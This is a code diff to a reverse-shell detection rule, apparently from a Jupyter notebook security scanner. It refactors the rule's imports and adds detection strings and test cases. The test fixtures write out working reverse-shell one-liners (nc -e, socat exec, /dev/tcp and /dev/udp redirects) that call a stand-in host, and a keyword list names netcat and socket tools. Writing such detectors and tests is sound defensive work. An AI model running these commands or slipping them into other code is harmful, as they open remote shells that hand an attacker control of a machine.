@@ -4,11 +4,23 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 
-from jupyter_mlsecops.sdk import Code, Command, Confidence, Match, Severity, Shell, Span, Value, regex, rule
+from jupyter_mlsecops.sdk import (
+    SHELLS,
+    SUBPROCESS,
+    Code,
+    Command,
+    Confidence,
+    Match,
+    Severity,
+    Shell,
+    Span,
+    Value,
+    called_shells,
+    own_shells,
+    regex,
+    rule,
+)
 
-from .sinks import SUBPROCESS, shell_lines, shell_texts
-
-_SHELLS = frozenset(("sh", "bash", "zsh", "dash", "ksh", "ash"))
 _PROGRAM = regex(r"(?:/(?:usr/)?bin/)?(?:ba|z|da|k|a)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?")
 _NETCATS = frozenset(("nc", "ncat", "netcat", "nc.traditional"))
 _RUNS = regex(r"-[a-zA-Z]{0,10}[ec]|--(?:sh-)?exec(?:=.*)?|--lua-exec")
@@ -35,6 +47,8 @@ _SOCKETS = ("socket.socket()", "socket.create_connection()", "ssl.wrap_socket()"
         "/dev/tcp/",
         "/dev/udp/",
         "nc ",
+        "'nc'",
+        '"nc"',
         "ncat",
         "netcat",
         "socket",
@@ -62,6 +76,8 @@ _SOCKETS = ("socket.socket()", "socket.create_connection()", "ssl.wrap_socket()"
         "%%bash\n«exec 5<>/dev/tcp/host.example/4444»; sh <&5 >&5",
         "!«socat exec:'bash -li',pty,stderr tcp:198.51.100.7:4444»",
         "import os\n«os.system('nc 198.51.100.7 4444 -e /bin/bash')»",
+        "import subprocess\n«subprocess.Popen(['nc', '198.51.100.7', '4444', '-e', '/bin/sh'])»",
+        "«get_ipython().run_line_magic('sx', 'nc -e /bin/sh 198.51.100.7 4444')»",
         "import subprocess\n«subprocess.run(['bash', '-c', 'sh -i >& /dev/udp/198.51.100.7/53 0>&1'])»",
     ],
     ok=[
@@ -83,10 +99,10 @@ def reverse_shell(code: Code) -> Iterator[Match]:
 
     Do not run the cell, and find out who put it here. If it ran, change the passwords and tokens of this machine."""
     yield from list(_in_python(code))[:1]
-    for shell in shell_lines(code):
+    for shell in own_shells(code):
         for span in list(_in_line(shell))[:1]:
             yield Match(span.shift(shell.start))
-    for call, shell in shell_texts(code):
+    for call, shell in called_shells(code):
         if any(True for _ in _in_line(shell)):
             yield Match(call.span)
 
@@ -122,7 +138,7 @@ def _in_line(shell: Shell) -> Iterator[Span]:
     commands = shell.commands()
     for at, command in enumerate(commands):
         following = commands[at + 1] if command.operator in ("|", "|&") and at + 1 < len(commands) else None
-        if command.name in _SHELLS:
+        if command.name in SHELLS:
             if _leads_out(command) and len(command.words) > 1:
                 outermost = command
                 while outermost.outer is not None:
@@ -152,7 +168,7 @@ def _leads_out(command: Command) -> bool:
 
 def _is_fed(command: Command) -> bool:
     """Whether a shell reads what an open file holds: ``sh <&5``."""
-    return command.name in _SHELLS and any(redirect.operator.endswith("<&") for redirect in command.redirects)
+    return command.name in SHELLS and any(redirect.operator.endswith("<&") for redirect in command.redirects)
 
 
 def _is_interactive(command: Command) -> bool:
